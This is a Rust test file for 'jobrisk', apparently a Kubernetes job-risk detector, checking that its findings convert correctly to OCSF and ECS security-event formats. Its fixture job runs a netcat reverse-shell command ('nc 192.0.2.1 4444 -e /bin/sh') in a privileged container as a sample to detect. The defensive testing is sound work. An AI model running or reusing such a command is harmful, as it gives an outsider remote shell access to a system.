use serde_json::{Value, json};

use super::*;
use crate::assess::assess;
use crate::detect::catalog::attack;
use crate::finding_log::{About, Action, Stamp, Verdict};
use crate::report::report;
use crate::severity::Severity;
use crate::workload::Kind;
use crate::workload::decode::from_json;

const TIME: &str = "2026-01-01T00:00:00.5Z";

fn stamp() -> Stamp {
    Stamp { time: TIME.to_owned(), instance: "jobrisk-0".to_owned(), sequence: 7 }
}

fn detected() -> Line {
    let job = br#"{"metadata":{"name":"a","namespace":"n","uid":"u-1"},"spec":{"template":{"spec":{"containers":[
        {"name":"c","image":"alpine","command":["nc","192.0.2.1","4444","-e","/bin/sh"],"securityContext":{"privileged":true}}]}}}}"#;
    let written = report(&assess(Kind::Job, &from_json(job).unwrap())).report;
    let before = Verdict { severity: Severity::Low, risk_score: 5 };
    let mut line = Line::verdict(&stamp(), Kind::Job, &written, Some(before), false).unwrap();
    line.row.user = Some("mallory".to_owned());
    line
}

/// A line of each action.
fn all() -> Vec<Line> {
    let last = Verdict { severity: Severity::High, risk_score: 50 };
    let about = About {
        kind: Kind::Job,
        namespace: "n",
        name: "a",
        uid: "u-1",
        report: "job-a",
        last,
        retained: true,
    };
    Action::ALL
        .into_iter()
        .map(|action| match action {
            Action::Deleted => Line::deleted(&stamp(), &about),
            Action::Merged => Line::merged(&stamp(), &about),
            Action::EvidenceChanged => Line::evidence(&stamp(), &about, false),
            Action::EvidenceRemoved => Line::evidence(&stamp(), &about, true),
            _ => {
                let severity = match action {
                    Action::Assessed | Action::Cleared => Severity::None,
                    _ => Severity::Critical,
                };
                Line { action, severity, ..detected() }
            }
        })
        .collect()
}

fn converted(line: Line, format: Format) -> Value {
    let text = convert(&line.text().unwrap(), format).unwrap();
    assert_eq!(text.lines().count(), 1);
    serde_json::from_str(&text).unwrap()
}

/// The value at a path of names and numbers, separated by dots.
fn at<'a>(value: &'a Value, path: &str) -> &'a Value {
    path.split('.').fold(value, |value, step| match step.parse::<usize>() {
        Ok(index) => &value[index],
        Err(_) => &value[step],
    })
}

#[test]
fn every_action_has_what_a_detection_finding_requires() {
    for line in all() {
        let (action, severity) = (line.action, line.severity);
        let finding = converted(line, Format::Ocsf);
        assert_eq!(finding["class_uid"], 2004);
        assert_eq!(finding["category_uid"], 2);
        let activity = finding["activity_id"].as_i64().unwrap();
        assert!((1..=3).contains(&activity), "{action:?}");
        assert_eq!(finding["type_uid"], 2004 * 100 + activity);
        assert_eq!(finding["time"], 1_767_225_600_500_i64);
        assert_eq!(finding["severity_id"], severity as i64 + 1, "{action:?}");
        assert!((1..=6).contains(&finding["status_id"].as_i64().unwrap()));
        assert_eq!(at(&finding, "finding_info.uid"), "jobrisk-u-1");
        assert!(!at(&finding, "finding_info.title").as_str().unwrap().is_empty());
        assert_eq!(at(&finding, "metadata.version"), "1.5.0");
        assert_eq!(at(&finding, "metadata.product.name"), "jobrisk");
        assert_eq!(at(&finding, "resources.0.uid"), "u-1");
        assert_eq!(at(&finding, "unmapped.action"), action.as_str());
    }
}

#[test]
fn every_action_has_what_an_event_of_ecs_requires() {
    for line in all() {
        let action = line.action;
        let document = converted(line, Format::Ecs);
        assert_eq!(document["@timestamp"], TIME);
        assert_eq!(at(&document, "ecs.version"), "9.3.0");
        assert!(["alert", "event"].contains(&at(&document, "event.kind").as_str().unwrap()));
        assert_eq!(at(&document, "event.category"), &json!(["configuration"]));
        let types = at(&document, "event.type").as_array().unwrap();
        // Those that ECS expects of the category.
        assert!(["change", "creation", "deletion", "info"].contains(&types[0].as_str().unwrap()));
        assert_eq!(at(&document, "event.action"), action.as_str());
        assert_eq!(at(&document, "orchestrator.resource.name"), "a");
        assert_eq!(at(&document, "jobrisk.findingUid"), "jobrisk-u-1");
    }
}

#[test]
fn techniques_rules_evidence_and_user_find_their_places() {
    let line = detected();
    let rule = line.details.as_ref().unwrap().rules[0].clone();
    let finding = converted(line.clone(), Format::Ocsf);
    assert_eq!(finding["activity_id"], 2);
    assert_eq!(at(&finding, "finding_info.analytic.uid"), &json!(rule));
    let attacks = at(&finding, "finding_info.attacks").as_array().unwrap();
    let job = attacks.iter().find(|attack| attack["sub_technique"]["uid"] == "T1053.007").unwrap();
    assert_eq!(job["sub_technique"]["name"], "Container Orchestration Job");
    assert_eq!(job["technique"], json!({"uid": "T1053", "name": "Scheduled Task/Job"}));
    assert_eq!(job["tactic"]["name"], "Execution");
    assert!(attacks.iter().all(|attack| attack["version"] == attack::VERSION));
    let evidences = finding["evidences"].as_array().unwrap();
    assert_eq!(evidences[0]["data"]["rule"], json!(rule));
    assert_eq!(evidences.last().unwrap()["actor"]["user"]["name"], "mallory");
    assert_eq!(at(&finding, "unmapped.SuspicionScore"), 3);
    assert!(finding["message"].as_str().unwrap().contains("(was Low)"), "{finding}");

    let document = converted(line, Format::Ecs);
    assert_eq!(at(&document, "rule.id"), &json!(rule));
    let ids = at(&document, "threat.technique.id").as_array().unwrap();
    assert_eq!(ids.iter().filter(|id| **id == "T1053").count(), 1);
    let subs = at(&document, "threat.technique.subtechnique.id").as_array().unwrap();
    assert!(subs.contains(&json!("T1053.007")));
    assert_eq!(at(&document, "user.name"), "mallory");
    assert_eq!(at(&document, "event.kind"), "alert");
}

#[test]
fn what_is_no_line_says_why() {
    let good: Value = serde_json::from_str(&detected().text().unwrap()).unwrap();
    let with = |field: &str, value: Value| {
        let mut line = good.clone();
        line[field] = value;
        line.to_string()
    };
    for (text, expected) in [
        ("nonsense".to_owned(), "expected ident"),
        ("{\"level\":\"INFO\"}".to_owned(), "`schema` is not"),
        ("[]".to_owned(), "`schema` is not"),
        (with("schemaVersion", json!("2.0")), "this is for 1.x"),
        (with("schemaVersion", json!(1)), "this is for 1.x"),
        (with("action", json!("shrugged")), "unknown variant `shrugged`"),
        (with("severity", json!(3)), "expected string"),
        (with("findings", json!("none")), "verdict"),
        (with("_time", json!("yesterday")), "`_time` is no time"),
        (with("action", json!("deleted")), "verdict"),
    ] {
        let why = convert(&text, Format::Ocsf).unwrap_err().to_string();
        assert!(why.contains(expected), "{expected}: {why}");
        assert_eq!(why.lines().count(), 1);
    }
    // What a later version adds is passed over.
    assert!(convert(&with("later", json!({"a": 1})), Format::Ecs).is_ok());
    assert!(convert(&with("schemaVersion", json!("1.9")), Format::Ecs).is_ok());
}

#[test]
fn text_that_somebody_put_into_a_line_is_no_command() {
    let mut line = serde_json::to_value(detected()).unwrap();
    line["resource_name"] = json!("a\u{9b}31m\u{202e}");
    for format in [Format::Ocsf, Format::Ecs] {
        let text = convert(&line.to_string(), format).unwrap();
        assert!(text.contains("\\u009b31m\\u202e") && !text.contains(['\u{9b}', '\u{202e}']), "{text}");
    }
    line["schemaVersion"] = json!("\u{9b}2");
    assert!(!convert(&line.to_string(), Format::Ecs).unwrap_err().to_string().contains('\u{9b}'));
}
